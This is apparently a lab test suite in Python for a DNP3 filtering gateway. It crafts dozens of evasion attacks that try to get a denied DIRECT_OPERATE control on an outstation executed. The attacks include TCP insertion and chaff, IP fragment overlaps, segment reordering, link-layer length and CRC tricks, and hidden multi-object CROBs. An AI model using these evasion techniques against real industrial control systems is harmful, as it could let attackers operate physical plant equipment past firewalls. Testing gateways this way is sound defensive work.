#!/usr/bin/python3
"""Evasion attacks on a DNP3 DIRECT_OPERATE that the gateway must deny.

The DNP3 counterpart of attacks.py (whose raw-wire attacker, Wire and
Session, it reuses): runs inside the lab's corp namespace as the attacker
198.18.0.11 (no interface owns it; the plant host's static neighbour entry
sends the replies to the corp MAC, where our raw socket reads them), against
dnp3_outstation.py (outstation 10) on 198.18.0.200:20000 behind conduitd in
enforce mode. Master address 1.

The policy under test allows READ and DIRECT_OPERATE of points 0-4 (a CROB on
binary output 3 is the allowed control) to outstation 10 and denies
everything else: DIRECT_OPERATE of binary output 7, WRITE, restarts. Each
case tries to get a denied operation executed. The outstation appends one
line per EXECUTED operation to its log; a case PASSes when no new line is a
denied operation (anything but DIRECT_OPERATE of a CROB on 0-4). Controls:
an allowed READ through the gateway (from 198.18.0.10, the corp kernel's own
address) is answered, an allowed DIRECT_OPERATE of point 3 executes (before
and after the cases), and undisguised denied operations do not.

Usage: dnp3_attacks.py --exec-log FILE --src-mac MAC --dst-mac MAC
                       [--policy NAME] [--iface eth0] [--only CASE,...]
                       [--skip PREFIX,...] [--list]
       dnp3_attacks.py --direct FILE  (self-test, no gateway: a kernel
                       master operates point 7 and the log must show it)
Prints PASS|FAIL <case> policy=<name> ... per case; exits 1 when any FAILed.
"""
import argparse
import json
import os
import random
import socket
import struct
import sys
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import attacks  # noqa: E402  (Wire, Session, checksum and fragment helpers)
from attacks import Session, Wire, with_bad_ip, with_bad_l4, ip_fragments  # noqa: E402
from dnp3_outstation import crc, frame  # noqa: E402

attacks.PORT = 20000  # Wire and Session read the module's PORT at run time
PORT = 20000
SRV = attacks.SRV
OUTSTATION, MASTER = 10, 1
TARGET = 7    # the denied binary output
ALLOWED = 3   # an allowed one (direct_operate, addresses 0-4)
CTL_PRI = 0xC4   # DIR=1 PRM=1 unconfirmed user data


# ------------------------------------------------------------------ DNP3 bytes
def crob(index, on_ms, code=0x03):
    """g12v1, qualifier 0x17 (1-byte count, 1-byte index): latch on."""
    return bytes([12, 1, 0x17, 1, index]) + struct.pack("<BBIIB", code, 1, on_ms, 0, 0)


def apdu(fc, objects=b"", seq=0):
    return bytes([0xC0 | (seq & 0x0F), fc]) + objects


def segments(app, seq=0, size=249):
    """Transport segments of one application message."""
    parts = [app[i:i + size] for i in range(0, len(app), size)] or [b""]
    out = []
    for k, p in enumerate(parts):
        th = (0x40 if k == 0 else 0) | (0x80 if k == len(parts) - 1 else 0) | ((seq + k) & 0x3F)
        out.append(bytes([th]) + p)
    return out


def msg(app, dst=OUTSTATION, ctl=CTL_PRI, seq=0):
    """One single-segment message in one link frame."""
    return b"".join(frame(ctl, dst, MASTER, s) for s in segments(app, seq))


def operate(index, value, fc=5):
    return msg(apdu(fc, crob(index, value)))


# A read as long as an operate of one CROB (33 bytes): class 0 + g10 0-15
# with 2-byte start/stop. Same LEN, so the first 10 bytes (link header and
# its CRC) are those of the operate frame.
READ_OBJS = bytes([60, 1, 6, 60, 2, 6, 60, 3, 6, 10, 0, 0x01, 0, 0, 15, 0])


def read_frame(seq=0):
    return msg(apdu(1, READ_OBJS, seq))


assert len(read_frame()) == len(operate(TARGET, 1))
assert read_frame()[:10] == operate(TARGET, 1)[:10]


def frame_raw(ctl, dst, src, body, length=None, good_header=True):
    """A link header (LEN as given, CRC good unless told) followed by `body`
    verbatim (its CRCs are the caller's business)."""
    n = 5 + (len(body) if length is None else length)
    head = struct.pack("<BBBBHH", 0x05, 0x64, n, ctl, dst, src)
    c = crc(head)
    if not good_header:
        c ^= 0x5555
    return head + struct.pack("<H", c) + body


def data_len_for(total):
    """User-data length n whose frame (with its CRCs) is `total` bytes or
    more, the smallest such."""
    n = 1
    while 10 + n + 2 * ((n + 15) // 16) < total:
        n += 1
    return n


# ---------------------------------------------------------------------- cases
CASES = []


def case(name):
    def reg(fn):
        CASES.append((name, fn))
        return fn
    return reg


@case("control_denied_operate")
def _(s, v):
    s.send(s.pkt(operate(TARGET, v)))


@case("control_denied_write")
def _(s, v):
    # WRITE g80v1 index 7 = 0 (clear IIN1.7 device restart)
    s.send(s.pkt(msg(apdu(2, bytes([80, 1, 0x00, 7, 7, 0])))))


@case("control_denied_cold_restart")
def _(s, v):
    s.send(s.pkt(msg(apdu(13))))


@case("control_denied_select_operate")
def _(s, v):
    c = crob(TARGET, v)
    s.send(s.pkt(msg(apdu(3, c, 1)), seq=0))
    time.sleep(0.1)
    n = len(msg(apdu(3, c, 1)))
    s.send(s.pkt(msg(apdu(4, c, 2), seq=1), seq=n))


@case("control_multisegment_operate")
def _(s, v):
    # One message in three transport segments (three link frames).
    fr = b"".join(frame(CTL_PRI, OUTSTATION, MASTER, t) for t in segments(apdu(5, crob(TARGET, v)), 0, 6))
    s.send(s.pkt(fr))


def insertion(s, v, chaff):
    s.send(chaff(s.pkt(read_frame(), seq=0)))
    s.send(s.pkt(operate(TARGET, v), seq=0))


@case("ins_bad_tcp_checksum")
def _(s, v):
    insertion(s, v, with_bad_l4)


@case("ins_no_ack_flag")
def _(s, v):
    insertion(s, v, lambda p: s.pkt(read_frame(), seq=0, flags="P"))


@case("ins_bad_ip_checksum")
def _(s, v):
    insertion(s, v, with_bad_ip)


@case("ins_ack_unsent_data")
def _(s, v):
    insertion(s, v, lambda p: s.pkt(read_frame(), seq=0, ack=s.rcv_nxt + 0x10000000))


@case("ins_outside_window")
def _(s, v):
    s.send(s.pkt(read_frame(), seq=0x20000000))
    s.send(s.pkt(operate(TARGET, v), seq=0))


@case("ins_ttl1")
def _(s, v):
    insertion(s, v, lambda p: s.pkt(read_frame(), seq=0, ip={"ttl": 1}))


@case("ins_paws_old_timestamp")
def _(s, v):
    insertion(s, v, lambda p: s.pkt(read_frame(), seq=0, tsval=s.tsval - 50000))


def frag_cases():
    for size in (8, 16, 24):
        for order in ("inorder", "reversed", "dup"):
            def fn(s, v, size=size, order=order):
                w = operate(TARGET, v)
                n = 20 + len(w)
                pieces = [(o, min(size, n - o)) for o in range(0, n, size)]
                frames, _ = ip_fragments(s, 0, w, pieces, random.getrandbits(16))
                if order == "reversed":
                    frames.reverse()
                elif order == "dup":
                    frames.insert(1, frames[0])
                s.send(*frames)
            case(f"ip_frag{size}_{order}")(fn)

    def overlap(s, v, write_first):
        ident = random.getrandbits(16)
        w = bytes(s.pkt(operate(TARGET, v), seq=0)[attacks.IP])[20:]
        b = bytes(s.pkt(read_frame(), seq=0)[attacks.IP])[20:]
        first, second = (w, b) if write_first else (b, w)
        n = len(w)
        # [0,32) from one, [16,n) from the other: they disagree inside 16..32
        frames, _ = ip_fragments(s, 0, operate(TARGET, v), [(0, 32, first), (16, n - 16, second)], ident)
        s.send(*frames)
    case("ip_frag_overlap_old_is_operate")(lambda s, v: overlap(s, v, True))
    case("ip_frag_overlap_new_is_operate")(lambda s, v: overlap(s, v, False))


frag_cases()


@case("tcp_seg_1byte")
def _(s, v):
    w = operate(TARGET, v)
    s.send(*[s.pkt(w[i:i + 1], seq=i) for i in range(len(w))])


@case("tcp_seg_1byte_reordered")
def _(s, v):
    w = operate(TARGET, v)
    s.send(*reversed([s.pkt(w[i:i + 1], seq=i) for i in range(len(w))]))


@case("tcp_seg_overlap_first_benign")
def _(s, v):
    s.send(s.pkt(read_frame(), seq=0), s.pkt(operate(TARGET, v), seq=0))


@case("tcp_seg_overlap_first_operate")
def _(s, v):
    s.send(s.pkt(operate(TARGET, v), seq=0), s.pkt(read_frame(), seq=0))


@case("tcp_seg_ooo_longer_replaces")
def _(s, v):
    # The read and the operate share their first 10 bytes (link header).
    w, r = operate(TARGET, v), read_frame()
    s.send(s.pkt(r[10:], seq=10), s.pkt(w[10:] + read_frame(1), seq=10), s.pkt(w[:10], seq=0))


@case("tcp_seg_ooo_shorter_dropped")
def _(s, v):
    w, r = operate(TARGET, v), read_frame()
    s.send(s.pkt(w[10:] + read_frame(1), seq=10), s.pkt(r[10:], seq=10), s.pkt(w[:10], seq=0))


def chaff_each(s, v, make_chaff, after=False, step=4):
    """The operate in `step`-byte segments, each with a chaff segment carrying
    the read's bytes at the same seq (before it, or after it)."""
    w, r = operate(TARGET, v), read_frame()
    for i in range(0, len(w), step):
        real = s.pkt(w[i:i + step], seq=i)
        chaff = make_chaff(r[i:i + step], i)
        s.send(*((real, chaff) if after else (chaff, real)))


@case("tcp_chaff_cksum")
def _(s, v):
    chaff_each(s, v, lambda b, i: with_bad_l4(s.pkt(b, seq=i)))


@case("tcp_chaff_null_flags")
def _(s, v):
    chaff_each(s, v, lambda b, i: s.pkt(b, seq=i, flags=""))


@case("tcp_chaff_paws")
def _(s, v):
    chaff_each(s, v, lambda b, i: s.pkt(b, seq=i, tsval=s.tsval - 50000))


@case("tcp_chaff_rexmit")
def _(s, v):
    w, r = operate(TARGET, v), read_frame()
    for i in range(0, len(w), 4):
        s.send(s.pkt(r[i:i + 4], seq=i), s.pkt(w[i:i + 4], seq=i))


@case("tcp_chaff_rexmit_operate_first")
def _(s, v):
    chaff_each(s, v, lambda b, i: s.pkt(b, seq=i), after=True)


@case("tcp_chaff_wrong_seq")
def _(s, v):
    chaff_each(s, v, lambda b, i: s.pkt(b, seq=i + 0x30000000))


@case("tcp_chaff_syn")
def _(s, v):
    chaff_each(s, v, lambda b, i: s.pkt(b, seq=i, flags="S"))


@case("tcp_chaff_ttl1")
def _(s, v):
    chaff_each(s, v, lambda b, i: s.pkt(b, seq=i, ip={"ttl": 1}))


# ---- two PDUs in one segment
@case("two_frames_read_operate")
def _(s, v):
    s.send(s.pkt(read_frame() + operate(TARGET, v)))


@case("two_frames_allowed_then_denied")
def _(s, v):
    s.send(s.pkt(operate(ALLOWED, 1) + operate(TARGET, v)))


@case("two_frames_link_status_then_operate")
def _(s, v):
    s.send(s.pkt(frame(0xC9, OUTSTATION, MASTER) + operate(TARGET, v)))


# ---- link layer: LEN vs CRC blocks
@case("link_len_overstate_swallows_operate")
def _(s, v):
    # A read frame whose LEN (header CRC good) claims the operate frame that
    # follows as its own user data; the outstation finds its body CRC wrong,
    # drops a byte, resynchronises and finds the operate.
    r, w = read_frame(), operate(TARGET, v)
    n = data_len_for(len(r) + len(w))
    body = r[10:] + w
    body += b"\x00" * (10 + n + 2 * ((n + 15) // 16) - 10 - len(body))
    s.send(s.pkt(frame_raw(CTL_PRI, OUTSTATION, MASTER, body, length=n)))


@case("link_len_overstate_next_segment")
def _(s, v):
    r, w = read_frame(), operate(TARGET, v)
    n = data_len_for(len(r) + len(w))
    body = r[10:] + w
    pad = b"\x00" * (10 + n + 2 * ((n + 15) // 16) - 10 - len(body))
    first = frame_raw(CTL_PRI, OUTSTATION, MASTER, r[10:], length=n)
    s.send(s.pkt(first, seq=0), s.pkt(w, seq=len(first)))
    s.send(s.pkt(pad, seq=len(first) + len(w)))


@case("link_bad_block_crc_hides_operate")
def _(s, v):
    # Unconfirmed user data whose user data is an operate frame verbatim
    # (the outer frame's block CRCs are therefore wrong).
    w = operate(TARGET, v)
    n = data_len_for(10 + len(w))
    body = w + b"\x00" * (n + 2 * ((n + 15) // 16) - len(w))
    s.send(s.pkt(frame_raw(CTL_PRI, OUTSTATION, MASTER, body, length=n)))


@case("link_status_request_with_data_hides_operate")
def _(s, v):
    # Request link status (9) must have LEN 5; this one declares user data:
    # the operate frame. A link-only frame's user data has no CRC to check,
    # but the outstation rejects the header, drops a byte and finds the
    # operate inside.
    w = operate(TARGET, v)
    n = data_len_for(10 + len(w))
    body = w + b"\x00" * (n + 2 * ((n + 15) // 16) - len(w))
    s.send(s.pkt(frame_raw(0xC9, OUTSTATION, MASTER, body, length=n)))


@case("link_reset_with_data_hides_operate")
def _(s, v):
    w = operate(TARGET, v)
    n = data_len_for(10 + len(w))
    body = w + b"\x00" * (n + 2 * ((n + 15) // 16) - len(w))
    s.send(s.pkt(frame_raw(0xC0, OUTSTATION, MASTER, body, length=n)))


@case("link_bad_header_crc_then_operate")
def _(s, v):
    junk = frame_raw(CTL_PRI, OUTSTATION, MASTER, b"", length=0, good_header=False)
    s.send(s.pkt(junk + operate(TARGET, v)))


@case("link_garbage_prefix")
def _(s, v):
    s.send(s.pkt(b"\x00\x05\x00\x64" + operate(TARGET, v)))


@case("link_garbage_after_read")
def _(s, v):
    r = read_frame()
    s.send(s.pkt(r, seq=0))
    time.sleep(0.05)
    s.send(s.pkt(b"\xff\xff" + operate(TARGET, v), seq=len(r)))


@case("link_user_data_without_data_then_operate")
def _(s, v):
    # Unconfirmed user data with LEN 5 (no user data): invalid header for the
    # outstation, a link-only frame for a lax gateway.
    s.send(s.pkt(frame(CTL_PRI, OUTSTATION, MASTER) + operate(TARGET, v)))


# ---- transport layer
def op_segments(v, size=8):
    return segments(apdu(5, crob(TARGET, v)), 0, size)


@case("tr_bad_seq_keeps_message")
def _(s, v):
    # FIR (operate header), a non-FIR segment with a wrong sequence number
    # (the outstation ignores it and keeps the message), then the rest.
    segs = op_segments(v, 8)
    junk = bytes([0x00 | 40]) + b"\x00" * 4
    fr = frame(CTL_PRI, OUTSTATION, MASTER, segs[0]) + frame(CTL_PRI, OUTSTATION, MASTER, junk)
    fr += b"".join(frame(CTL_PRI, OUTSTATION, MASTER, t) for t in segs[1:])
    s.send(s.pkt(fr))


@case("tr_bad_seq_separate_segments")
def _(s, v):
    segs = op_segments(v, 8)
    junk = bytes([0x00 | 40]) + b"\x00" * 4
    frames = [frame(CTL_PRI, OUTSTATION, MASTER, segs[0]), frame(CTL_PRI, OUTSTATION, MASTER, junk)]
    frames += [frame(CTL_PRI, OUTSTATION, MASTER, t) for t in segs[1:]]
    off = 0
    for f in frames:
        s.send(s.pkt(f, seq=off), gap=0.02)
        off += len(f)


@case("tr_other_destination_interleaved")
def _(s, v):
    # A complete read to outstation 11 between the operate's segments: the
    # outstation (10) ignores frames for 11.
    segs = op_segments(v, 8)
    fr = frame(CTL_PRI, OUTSTATION, MASTER, segs[0])
    fr += msg(apdu(1, READ_OBJS), dst=11)
    fr += b"".join(frame(CTL_PRI, OUTSTATION, MASTER, t) for t in segs[1:])
    s.send(s.pkt(fr))


@case("tr_dir0_interleaved")
def _(s, v):
    # A complete read in a frame with DIR=0 (as if from an outstation): the
    # outstation ignores it. The gateway cannot tell (no link-state model); it
    # keeps the operate the read's FIR superseded and denies its tail's FIN.
    segs = op_segments(v, 8)
    fr = frame(CTL_PRI, OUTSTATION, MASTER, segs[0])
    fr += msg(apdu(1, READ_OBJS), ctl=0x44)
    fr += b"".join(frame(CTL_PRI, OUTSTATION, MASTER, t) for t in segs[1:])
    s.send(s.pkt(fr))


@case("tr_confirmed_unreset_interleaved")
def _(s, v):
    # A read in confirmed user data (3) before any reset link: the
    # outstation does not pass it up.
    segs = op_segments(v, 8)
    fr = frame(CTL_PRI, OUTSTATION, MASTER, segs[0])
    fr += msg(apdu(1, READ_OBJS), ctl=0xF3)
    fr += b"".join(frame(CTL_PRI, OUTSTATION, MASTER, t) for t in segs[1:])
    s.send(s.pkt(fr))


@case("tr_fir_restart_read_then_tail")
def _(s, v):
    # FIR of the operate, a FIR+FIN read (restarts), then the operate's tail:
    # both sides drop the tail.
    segs = op_segments(v, 8)
    fr = frame(CTL_PRI, OUTSTATION, MASTER, segs[0]) + read_frame()
    fr += b"".join(frame(CTL_PRI, OUTSTATION, MASTER, t) for t in segs[1:])
    s.send(s.pkt(fr))


# ---- application layer
@case("app_second_object_header")
def _(s, v):
    # Two CROB headers in one DIRECT_OPERATE: point 3 (allowed), point 7.
    s.send(s.pkt(msg(apdu(5, crob(ALLOWED, 1) + crob(TARGET, v)))))


@case("app_count_two_indices")
def _(s, v):
    objs = bytes([12, 1, 0x17, 2]) + bytes([ALLOWED]) + struct.pack("<BBIIB", 3, 1, 1, 0, 0)
    objs += bytes([TARGET]) + struct.pack("<BBIIB", 3, 1, v, 0, 0)
    s.send(s.pkt(msg(apdu(5, objs))))


@case("app_direct_operate_nr")
def _(s, v):
    s.send(s.pkt(operate(TARGET, v, fc=6)))


@case("app_broadcast_operate")
def _(s, v):
    s.send(s.pkt(msg(apdu(5, crob(TARGET, v)), dst=0xFFFF)))


@case("app_confirmed_user_data_operate")
def _(s, v):
    fr = frame(0xC0, OUTSTATION, MASTER)  # reset link states
    fr += msg(apdu(5, crob(TARGET, v)), ctl=0xF3)  # FCB=1 FCV=1 confirmed user data
    s.send(s.pkt(fr))


def split_cases():
    n = len(operate(TARGET, 1))
    for k in range(1, n):
        def fn(s, v, k=k):
            w = operate(TARGET, v)
            s.send(s.pkt(w[:k], seq=0), s.pkt(w[k:], seq=k), gap=0.02)
        case(f"split_at_{k}")(fn)


split_cases()


@case("urg_hidden_byte")
def _(s, v):
    # The server's stack removes the urgent byte; a gateway that keeps it
    # sees a frame whose header is shifted.
    w = operate(TARGET, v)
    payload = w[:3] + b"\x05" + w[3:]
    s.send(s.pkt(payload, flags="PAU", tcp={"urgptr": 4}))


@case("urg_flag_on_operate")
def _(s, v):
    s.send(s.pkt(operate(TARGET, v), flags="PAU", tcp={"urgptr": 1}))


@case("ip_options_nop")
def _(s, v):
    s.send(s.pkt(operate(TARGET, v),
                 ip={"options": [attacks.IPOption_NOP(), attacks.IPOption_NOP(),
                                 attacks.IPOption_NOP(), attacks.IPOption_EOL()]}))


@case("ip_options_router_alert")
def _(s, v):
    s.send(s.pkt(operate(TARGET, v), ip={"options": [attacks.IPOption_Router_Alert()]}))


@case("eth_trailer")
def _(s, v):
    s.send(bytes(s.pkt(operate(TARGET, v))) + read_frame() + b"\x00" * 6)


@case("eth_trailer_benign_ip")
def _(s, v):
    s.send(bytes(s.pkt(read_frame())) + operate(TARGET, v))


# ---------------------------------------------------------------------- driver
def log_entries(path):
    try:
        with open(path) as f:
            return [json.loads(line) for line in f if line.strip()]
    except FileNotFoundError:
        return []


def allowed_entry(e):
    return e.get("fc") == 5 and e.get("group") == 12 and 0 <= e.get("index", -1) <= 4


# (case, policy) pairs where the denied operate EXECUTES today: findings,
# not slack. Each prints XFAIL with its reason; one that stops executing
# prints XPASS (remove it here). Nothing else is excused.
KNOWN_GAPS = {}


def run_case(wire, log, name, fn, value, policy):
    before = len(log_entries(log))
    note = ""
    s = Session(wire, ts="paws" in name)
    try:
        s.connect()
        fn(s, value)
        time.sleep(0.4)
        if s.reset:
            note = "reset"
    except ConnectionError as e:
        note = f"session: {e}"
    finally:
        s.close()
    time.sleep(0.05)
    new = log_entries(log)[before:]
    denied = [e for e in new if not allowed_entry(e)]
    ok = not denied
    if denied:
        note = (note + " EXECUTED: " + "; ".join(json.dumps(e, separators=(",", ":")) for e in denied)
                + f" sport={s.sport}").strip()
    word = "PASS" if ok else "FAIL"
    gap = KNOWN_GAPS.get((name, policy))
    if gap:
        word = "XFAIL" if denied else "XPASS"
        note = (note + (" known gap: " if denied else " no longer executes, remove from KNOWN_GAPS: ")
                + gap).strip()
        ok = True
    print(f"{word} {name} policy={policy} executed={len(new)} denied_executed={len(denied)}"
          f" (attack value {value}){' ' + note if note else ''}", flush=True)
    return ok


def control_allowed_operate(wire, log, policy, value, suffix=""):
    before = len(log_entries(log))
    s = Session(wire)
    note = ""
    try:
        s.connect()
        s.send(s.pkt(operate(ALLOWED, value)))
        time.sleep(0.4)
        if len(s.data) < 10:
            note = "no response"
    except ConnectionError as e:
        note = f"session: {e}"
    finally:
        s.close()
    time.sleep(0.05)
    new = log_entries(log)[before:]
    ok = any(e.get("index") == ALLOWED and e.get("on_ms") == value for e in new)
    print(f"{'PASS' if ok else 'FAIL'} control_allowed_operate{suffix} policy={policy} executed={len(new)}"
          f" (operate point {ALLOWED} on_ms={value}, must execute){' ' + note if note else ''}", flush=True)
    return ok


def kernel_master(request, timeout=2.0, src=None):
    """A plain master on a kernel socket: sends `request`, returns the bytes
    of the first complete response frame(s) (or b"")."""
    c = socket.create_connection((SRV, PORT), timeout=timeout, source_address=src)
    try:
        c.sendall(request)
        data = b""
        end = time.time() + timeout
        while time.time() < end:
            try:
                chunk = c.recv(4096)
            except socket.timeout:
                break
            if not chunk:
                break
            data += chunk
            if len(data) >= 10 and len(data) >= 10 + (data[2] - 5) + 2 * ((data[2] - 5 + 15) // 16):
                break
        return data
    finally:
        c.close()


def parse_read_response(data):
    """Binary output states (g10v2, 16 points) from a read response, or None."""
    if len(data) < 10 or data[:2] != b"\x05\x64":
        return None
    n = data[2] - 5
    user, pos = b"", 10
    while n > 0:
        blk = min(16, n)
        user += data[pos:pos + blk]
        pos += blk + 2
        n -= blk
    app = user[1:]
    if len(app) < 4 or app[1] != 0x81:
        return None
    i = app.find(bytes([10, 2, 0x00, 0, 15]))
    if i < 0:
        return None
    return [bool(b & 0x80) for b in app[i + 5:i + 21]]


def control_allowed_read(policy, want_point3=None):
    note = ""
    try:
        data = kernel_master(read_frame(seq=random.randint(0, 15)))
        states = parse_read_response(data)
    except OSError as e:
        states, note = None, str(e)
    ok = states is not None and (want_point3 is None or states[ALLOWED] == want_point3)
    print(f"{'PASS' if ok else 'FAIL'} control_allowed_read policy={policy}"
          f" (kernel master, read answered{'' if want_point3 is None else f', point {ALLOWED} on'})"
          f" states={''.join('1' if x else '0' for x in states) if states else None}"
          f"{' ' + note if note else ''}", flush=True)
    return ok


def direct_selftest(log):
    before = len(log_entries(log))
    value = random.randint(100000, 200000)
    data = kernel_master(operate(TARGET, value))
    time.sleep(0.2)
    new = log_entries(log)[before:]
    ok = any(e.get("index") == TARGET and e.get("on_ms") == value for e in new) and len(data) >= 10
    print(f"{'PASS' if ok else 'FAIL'} selftest_direct_operate (no gateway: the outstation executes"
          f" point {TARGET}, on_ms={value}) executed={len(new)} response={len(data)} bytes", flush=True)
    return ok


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--policy", default="?")
    ap.add_argument("--iface", default="eth0")
    ap.add_argument("--src-mac")
    ap.add_argument("--dst-mac")
    ap.add_argument("--exec-log")
    ap.add_argument("--direct")
    ap.add_argument("--only", default="")
    ap.add_argument("--skip", default="")
    ap.add_argument("--list", action="store_true")
    a = ap.parse_args()
    if a.list:
        for n in ("control_allowed_read", "control_allowed_operate"):
            print(n)
        for name, _ in CASES:
            print(name)
        return 0
    random.seed()
    if a.direct:
        return 0 if direct_selftest(a.direct) else 1
    wire = Wire(a.iface, a.src_mac, a.dst_mac, a.policy)
    only = set(filter(None, a.only.split(",")))
    skip = tuple(filter(None, a.skip.split(",")))
    fails = []
    base = random.randint(10000, 90000) * 10
    if not only or "control_allowed_read" in only:
        if not control_allowed_read(a.policy):
            fails.append("control_allowed_read")
    if not only or "control_allowed_operate" in only:
        if not control_allowed_operate(wire, a.exec_log, a.policy, base):
            fails.append("control_allowed_operate")
    for i, (name, fn) in enumerate(CASES):
        if (only and name not in only) or (skip and name.startswith(skip)):
            continue
        if not run_case(wire, a.exec_log, name, fn, base + 1 + i, a.policy):
            fails.append(name)
    if not only:
        # The allowed paths still work after all that; point 3 was latched on.
        if not control_allowed_operate(wire, a.exec_log, a.policy, base + 5000, "(after)"):
            fails.append("control_allowed_operate(after)")
        if not control_allowed_read(a.policy, want_point3=True):
            fails.append("control_allowed_read(after)")
    print(f"SUMMARY policy={a.policy} failed={len(fails)}: {' '.join(fails) or '-'}", flush=True)
    return 1 if fails else 0


if __name__ == "__main__":
    sys.exit(main())
